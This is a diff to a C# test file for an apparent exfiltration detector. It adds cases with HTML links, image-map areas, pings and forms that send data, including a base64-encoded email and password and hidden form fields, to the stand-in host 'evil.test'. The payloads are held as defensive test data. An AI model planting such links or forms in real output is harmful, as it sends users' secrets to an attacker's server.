@@ -208,6 +208,36 @@ public class ExfilTests
     [InlineData("<svg><script href=\"/s.js\"></script></svg>")]
     public void Svg_to_the_same_document_or_an_allowed_host_is_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));
 
+    /// <summary>
+    /// An HTML anchor or image-map area is followed on a click, as a markdown link is, and reported as one (label and
+    /// score): 0.7, 0.9 when its query carries data. A form (and a button's or image input's formaction) posts its
+    /// fields, hidden ones too, on a click: a link that carries data, 0.9. A ping is sent on a click. None was read.
+    /// </summary>
+    [Theory]
+    [InlineData("<a href=\"https://evil.test/?q=secret\">here</a>", 0.7)]
+    [InlineData("<A HREF=//evil.test/x>here</A>", 0.7)]
+    [InlineData("<a href=\"https&colon;//evil.test/x\">here</a>", 0.7)]
+    [InlineData("<a href=\"https://evil.test/c?data=am9obkBleGFtcGxlLmNvbTpodW50ZXIy\">here</a>", 0.9)]
+    [InlineData("<map><area shape=rect coords=\"0,0,9,9\" href=\"https://evil.test/x\"></map>", 0.7)]
+    [InlineData("<svg><a xlink:href=\"//evil.test/x\"><text>here</text></a></svg>", 0.7)]
+    [InlineData("<a href=\"/local\" ping=\"/count https://evil.test/p\">here</a>", 0.7)]
+    [InlineData("<form action=\"https://evil.test/collect\"><input type=hidden name=d value=secret><button>Go</button></form>", 0.9)]
+    [InlineData("<form><input name=d value=secret><button formaction=//evil.test/c>Go</button></form>", 0.9)]
+    [InlineData("<form><input type=submit formaction=\"https://evil.test/c\"></form>", 0.9)]
+    public void An_html_link_or_form_to_another_host_is_found_as_a_markdown_link_is(string text, double score)
+    {
+        var markdown = Assert.Single(Exfil.Find("[here](https://evil.test/?q=secret)", Allowed));
+        var m = Assert.Single(Exfil.Find(text, Allowed));
+        Assert.Equal((markdown.Label, score), (m.Label, m.Score));
+    }
+
+    [Theory]
+    [InlineData("<a href=\"https://docs.example.com/page\">docs</a> <a href=\"/local\">x</a> <a href=\"#top\">top</a>")]
+    [InlineData("<a href=\"mailto:someone@evil.test\">mail</a> <area href=\"map.html\">")]
+    [InlineData("<form action=\"/search\"><input name=q><button formaction=\"https://example.com/go\">Go</button></form>")]
+    [InlineData("Wrap it in an <a> element; a <form> posts to its action.")]
+    public void An_html_link_or_form_to_an_allowed_or_relative_destination_is_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));
+
     private const string Long =
         "a long description of the picture, repeated to run past what the image patterns read before its source. "
         + "a long description of the picture, repeated to run past what the image patterns read before its source. "
